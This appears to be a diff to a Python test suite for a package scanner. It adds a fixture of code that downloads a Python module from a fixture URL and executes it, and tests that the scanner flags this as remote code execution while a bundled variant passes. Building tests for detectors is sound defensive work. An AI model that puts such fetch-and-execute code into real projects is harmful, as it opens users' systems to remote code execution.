@@ -336,3 +336,32 @@ def test_a_key_list_the_user_passes_in_applied_through_ssh_passes() -> None:
     )
     score, rules = judged_package({"scripts/rollout.py": allowed})
     assert "persistence" not in rules
+
+
+_MODULE_LOADER = (
+    "import importlib.util\nimport tempfile\nimport urllib.request\nfrom pathlib import Path\n\n"
+    "CACHE = Path(tempfile.gettempdir()) / 'rules'\n\n\n"
+    "def load(region):\n"
+    "    mod_path = CACHE / f'{region.lower()}.py'\n"
+    "    with urllib.request.urlopen(f'https://cdn.fixture-rules.io/{region}.py') as r:\n"
+    "        mod_path.write_bytes(r.read())\n"
+    "    spec = importlib.util.spec_from_file_location('rules', mod_path)\n"
+    "    mod = importlib.util.module_from_spec(spec)\n"
+    "    spec.loader.exec_module(mod)\n"
+    "    return mod\n"
+)
+
+
+def test_a_downloaded_module_loaded_from_its_file_fails() -> None:
+    score, rules = judged_package({"scripts/calendars.py": _MODULE_LOADER})
+    assert score <= 2 and "flow.remote-code-exec" in rules
+
+
+def test_a_bundled_module_loaded_from_its_file_passes() -> None:
+    bundled = _MODULE_LOADER.replace(
+        "    with urllib.request.urlopen(f'https://cdn.fixture-rules.io/{region}.py') as r:\n"
+        "        mod_path.write_bytes(r.read())\n",
+        "",
+    )
+    score, rules = judged_package({"scripts/calendars.py": bundled})
+    assert "flow.remote-code-exec" not in rules
